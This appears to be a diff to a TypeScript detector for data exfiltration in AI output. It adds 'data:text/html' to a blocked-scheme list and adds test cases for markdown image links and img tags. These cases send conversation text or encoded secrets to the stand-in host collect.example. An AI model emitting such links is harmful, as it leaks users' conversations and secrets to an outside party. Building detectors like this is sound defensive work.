@@ -16,6 +16,7 @@ const LITERALS = [
   '<//',
   'javascript:',
   'vbscript:',
+  'data:text/html',
 ] as const;
 const SCHEMELESS = LITERALS.indexOf('(//');
 const SCRIPT = LITERALS.indexOf('javascript:');
@@ -67,6 +68,8 @@ export const exfiltration: SpanDetector = {
       ['![x](//collect.example/p?notes=my+account+number+is+the+old+one)', 'exfiltration/image'],
       ['![x](https://collect.example/p?data={conversation})', 'exfiltration/image'],
       ['[open](javascript:fetch(1))', 'exfiltration/script'],
+      ['<img src="data:text/html;base64,PHA+">', 'exfiltration/script'],
+      ['![x](https://collect.example/p?q=[INSERT THE CONVERSATION])', 'exfiltration/image'],
       [`<img src="https&#58;//collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
       [
         `![x](https://collect.example/?q=${secret('base64').slice(0, 14)}\n  ${secret('base64').slice(14)})`,
